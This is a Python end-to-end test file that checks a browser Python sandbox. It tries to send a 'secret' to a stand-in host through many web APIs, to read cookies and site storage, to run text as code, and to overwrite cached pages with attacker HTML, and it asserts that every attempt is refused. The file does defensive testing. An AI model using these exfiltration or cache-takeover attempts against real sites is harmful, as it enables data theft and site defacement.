"""A program cannot reach any port or storage, turn text into code, or replace the site's files."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from e2e.safety.conftest import run
from e2e.visitor import with_python
from tests.seeds import NIGHTLY
from tools.bootstrap import ROOT

if TYPE_CHECKING:
    from playwright.sync_api import Page

    from e2e.safety.conftest import Stranger

pytestmark = pytest.mark.allow_console
"""The browser reports each refusal on the console."""

TRIES = """import js, json
from pyodide.ffi import create_proxy, to_js

found = {{}}

async def attempt(name, act):
    try:
        result = act()
        if hasattr(result, "__await__"):
            result = await result
        found[name] = "done"
    except BaseException as error:
        found[name] = "refused"

ADDRESS = "{address}"
options = {{"method": "POST", "mode": "no-cors", "body": "secret"}}
options = to_js(options, dict_converter=js.Object.fromEntries)
{body}
await js.Promise.new(create_proxy(lambda resolve, _: js.setTimeout(resolve, 1000)))
print("FOUND " + json.dumps(found))
"""


def tried(page: Page, body: str, address: str = "") -> dict[str, Any]:
    """Run a program that tries forbidden things. Return a dictionary: attempt → outcome."""
    said = run(page, TRIES.format(body=body, address=address))
    line = next(line for line in said.splitlines() if line.startswith("FOUND "))
    return dict(json.loads(line.removeprefix("FOUND ")))


NETWORK = """
await attempt("fetch", lambda: js.fetch(f"http://{ADDRESS}/fetch?secret"))
await attempt("blind fetch", lambda: js.fetch(f"http://{ADDRESS}/blind", options))
def request():
    sent = js.XMLHttpRequest.new()
    sent.open("GET", f"http://{ADDRESS}/xhr", False)
    sent.send()
await attempt("XMLHttpRequest", request)
await attempt("WebSocket", lambda: js.WebSocket.new(f"ws://{ADDRESS}/socket"))
await attempt("EventSource", lambda: js.EventSource.new(f"http://{ADDRESS}/events"))
await attempt("WebTransport", lambda: js.WebTransport.new(f"https://{ADDRESS}/transport").ready)
await attempt("sendBeacon", lambda: js.navigator.sendBeacon(f"http://{ADDRESS}/beacon", "secret"))
await attempt("importScripts", lambda: js.importScripts(f"http://{ADDRESS}/script.js"))
await attempt("Image", lambda: setattr(js.Image.new(), "src", f"http://{ADDRESS}/image"))
await attempt("RTCPeerConnection", lambda: js.RTCPeerConnection.new())
await attempt("Worker", lambda: js.Worker.new(f"http://{ADDRESS}/worker.js"))
await attempt("location", lambda: setattr(js, "location", f"http://{ADDRESS}/location"))
await attempt("FontFace", lambda: js.FontFace.new("f", f"url(http://{ADDRESS}/font)").load())
from pyodide.http import pyfetch
await attempt("pyfetch", lambda: pyfetch(f"http://{ADDRESS}/pyfetch"))
"""
CONSTRUCTS = frozenset({"WebSocket", "EventSource", "location"})
"""The attempts that may end without an error. A program can make these objects, but they send nothing."""


def test_no_byte_of_a_program_reaches_another_port(playground: Page, stranger: Stranger) -> None:
    outcomes = tried(playground, NETWORK, stranger.address)
    assert {name for name, became in outcomes.items() if became == "done"} <= CONSTRUCTS
    assert len(outcomes) == 14
    assert stranger.requests == []


def test_a_program_reads_no_file_of_the_site_itself(playground: Page, server_url: str) -> None:
    asked: list[str] = []
    playground.context.on("request", lambda request: asked.append(request.url))
    outcomes = tried(
        playground, 'await attempt("page", lambda: js.fetch(ADDRESS))', f"{server_url}index.html"
    )
    assert outcomes == {"page": "refused"}
    assert [url for url in asked if url.endswith("index.html")] == []


CODE = """
await attempt("eval", lambda: js.eval("1 + 1"))
await attempt("Function", lambda: js.Function.new("return 1")())
await attempt("setTimeout", lambda: js.setTimeout("self.hit = 1", 0))
await attempt("run_js", lambda: __import__("pyodide.code").code.run_js("1 + 1"))
await attempt("importScripts of text", lambda: js.importScripts("data:text/javascript,self.hit = 1"))
blob = js.Blob.new(to_js(["self.hit = 1; setInterval(() => {{}}, 1)"]))
address = js.URL.createObjectURL(blob)
await attempt("importScripts of a blob", lambda: js.importScripts(address))
await attempt("Worker of a blob", lambda: js.Worker.new(address))
await attempt("a policy of its own", lambda: js.trustedTypes.createPolicy("eglantine", js.Object.new()))
await attempt("another policy", lambda: js.trustedTypes.createPolicy("mine", js.Object.new()))
"""


def test_a_program_cannot_run_text_as_javascript_or_start_a_worker(playground: Page) -> None:
    outcomes = tried(playground, CODE)
    # setTimeout silently ignores a string that it may not run, so we check that the string did not run.
    assert {name for name, became in outcomes.items() if became == "done"} <= {"setTimeout"}
    assert run(playground, "import js\nprint('hit' if hasattr(js, 'hit') else 'clean')").startswith("clean")


STORAGE = """
await attempt("caches", lambda: js.caches.open("eglantine-1"))
await attempt("cache names", lambda: js.caches.keys())
await attempt("localStorage", lambda: js.localStorage.getItem("eglantine-playground-1"))
await attempt("sessionStorage", lambda: js.sessionStorage.length)
await attempt("cookies", lambda: js.document.cookie)
await attempt("cookieStore", lambda: js.cookieStore.getAll())
await attempt("navigator.storage", lambda: js.navigator.storage.getDirectory())
await attempt("navigator.locks", lambda: js.navigator.locks.query())
await attempt("service worker", lambda: js.navigator.serviceWorker.getRegistrations())
await attempt("parent", lambda: js.parent.document.title)
await attempt("top", lambda: js.top.localStorage)
await attempt("indexedDB", lambda: opened())
"""
OPENED = """
def opened():
    def begin(resolve, reject):
        request = js.indexedDB.open("eglantine", 1)
        request.onsuccess = lambda _: resolve("open")
        request.onerror = lambda _: reject("error")
    return js.Promise.new(create_proxy(begin))
"""


def test_a_program_finds_no_storage_of_the_site(playground: Page) -> None:
    playground.evaluate(
        """async () => {
          localStorage.setItem("secret", "1");
          await (await caches.open("secret")).put("secret", new Response("1"));
        }"""
    )
    outcomes = tried(playground, OPENED + STORAGE)
    playground.evaluate("() => { localStorage.removeItem('secret'); return caches.delete('secret'); }")
    assert len(outcomes) == 12
    assert set(outcomes.values()) == {"refused"}


CHANNEL = """
heard = []
channel = js.BroadcastChannel.new("eglantine")
channel.onmessage = create_proxy(lambda event: heard.append(event.data))
channel.postMessage("from the program")
await js.Promise.new(create_proxy(lambda resolve, _: js.setTimeout(resolve, 1500)))
found["heard"] = heard
"""


def test_a_program_and_the_page_do_not_hear_each_other_over_a_channel(playground: Page) -> None:
    playground.evaluate(
        """() => {
          self.overheard = [];
          self.channel = new BroadcastChannel("eglantine");
          self.channel.onmessage = ({ data }) => self.overheard.push(data);
          self.chatter = setInterval(() => self.channel.postMessage("from the page"), 50);
        }"""
    )
    assert tried(playground, CHANNEL) == {"heard": []}
    assert playground.evaluate("self.overheard") == []
    playground.evaluate("() => { clearInterval(self.chatter); self.channel.close(); }")


MEMORY = """import js
try:
    shared = js.SharedArrayBuffer.new(8)
except BaseException:
    shared = js.WebAssembly.Memory.new(initial=1, maximum=1, shared=True).buffer
for message in (shared, js.Object.fromEntries([["kind", "note"], ["json", shared]])):
    try:
        js.postMessage(message)
    except BaseException as error:
        print("refused", error)
print("tried")
"""


def test_memory_that_a_program_shares_does_not_reach_the_page(playground: Page) -> None:
    playground.evaluate(
        """() => {
          self.shared = [];
          addEventListener("message", ({ data }) => self.shared.push(data));
        }"""
    )
    assert "tried" in run(playground, MEMORY)
    assert "42" in run(playground, "print(6 * 7)")
    assert playground.evaluate("self.shared") == []


# ---------------------------------------------------------------- takeover

PAGES = sorted(path.stem for path in (ROOT / "static" / "pages").glob("*.html") if path.stem != "shell")
USUAL = ["index", "playground", "robot"]
"""The pages to test by day: one without Python, one with a sandboxed Python, and one with its own Python."""
TAKEOVER = """import js
from pyodide.ffi import to_js

taken = "<!doctype html><title>taken</title><p>taken"
headers = to_js({"headers": {"Content-Type": "text/html"}}, dict_converter=js.Object.fromEntries)
try:
    for name in ["eglantine-1", "eglantine.python", *await js.caches.keys()]:
        cache = await js.caches.open(name)
        for request in await cache.keys():
            await cache.put(request, js.Response.new(taken, headers))
        await cache.put("playground.html", js.Response.new(taken, headers))
    print("wrote into the caches")
except BaseException as error:
    print("refused:", str(error)[:200])
"""
CACHES = """async () => {
  const digests = {};
  for (const name of (await caches.keys()).sort()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      const bytes = await (await cache.match(request)).arrayBuffer();
      const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
      digests[`${name} ${new URL(request.url).pathname}`] = [...digest].join(" ");
    }
  }
  return digests;
}"""
IS_KEPT = (
    """async () => localStorage.getItem("eglantine.python") !== null && (await caches.keys()).length > 0"""
)


def test_a_program_cannot_replace_pages_in_the_sites_caches(playground: Page, server_url: str) -> None:
    page = playground
    while not page.evaluate(IS_KEPT):
        page.wait_for_timeout(100)
    before = page.evaluate(CACHES)
    assert before, "the caches hold files that the attack can replace"
    said = run(page, TAKEOVER)
    assert "refused:" in said
    assert page.evaluate(CACHES) == before
    for name in PAGES if NIGHTLY else USUAL:
        page.goto(f"{server_url}{name}.html")
        expect(page.locator("main")).to_be_visible()
        assert "taken" not in page.title()
        if page.locator("main[data-python]").count():
            with_python(page)
